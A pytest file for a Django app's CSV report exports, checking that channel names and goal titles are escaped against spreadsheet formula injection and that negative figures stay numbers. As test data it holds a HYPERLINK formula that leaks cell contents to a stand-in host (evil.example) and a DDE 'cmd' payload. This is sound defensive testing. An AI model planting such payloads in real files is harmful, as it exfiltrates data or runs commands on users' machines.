"""The report CSVs opened in a spreadsheet: channel names and goal titles cannot run as
formulas; figures, also negative ones, stay numbers."""

import csv
import io
from datetime import date

import pytest
import time_machine
from django.conf import settings
from django.urls import reverse

from accounts.models import Channel
from core.testing import PASSWORD
from strategy.models import Goal
from strategy.tests.conftest import NOW

NOVEMBER = {"start": "2026-11-01", "end": "2026-11-30"}
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")'


@pytest.fixture
def comms_client(client, org):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    assert client.login(username="comms", password=PASSWORD)
    return client


def _csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode())))


@time_machine.travel(NOW, tick=False)
def test_a_hostile_channel_name_is_text_in_the_answer_times_csv(comms_client, org, report_data):
    # Given channel a is named like a formula
    Channel.objects.filter(pk=org.channels["a"].pk).update(name=HYPERLINK)

    # When the team downloads the answer times per channel
    rows = _csv(
        comms_client.get(
            reverse("strategy:report-answer-times"), {**NOVEMBER, "by": "channel", "format": "csv"}
        )
    )

    # Then the name starts with an apostrophe and the figures beside it are unchanged
    hostile = next(row for row in rows if HYPERLINK in row[0])
    assert hostile[0] == "'" + HYPERLINK + " · Facebook"
    assert hostile[2:9] == ["5", "4", "75.0", "132.0", "3", "2", "60.0"]
    assert rows[0][:2] == ["Group", "Period starting"]


@time_machine.travel(NOW, tick=False)
def test_a_hostile_goal_title_is_text_and_a_negative_target_a_number(comms_client, org):
    # Given a goal titled like a formula whose target is a fall of five followers
    goal = Goal.objects.create(
        title="@SUM(1+1)*cmd|' /C calc'!A0",
        metric="followers",
        target_value=-5,
        start_date=date(2026, 1, 1),
        deadline=date(2026, 12, 31),
    )
    goal.channels.add(org.channels["a"])

    # When the team downloads the goals report
    rows = _csv(comms_client.get(reverse("strategy:report-goals"), {"format": "csv"}))

    # Then the title starts with an apostrophe and the target is the plain number
    row = next(row for row in rows if "cmd" in row[0])
    assert row[0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[2] == "-5.0"
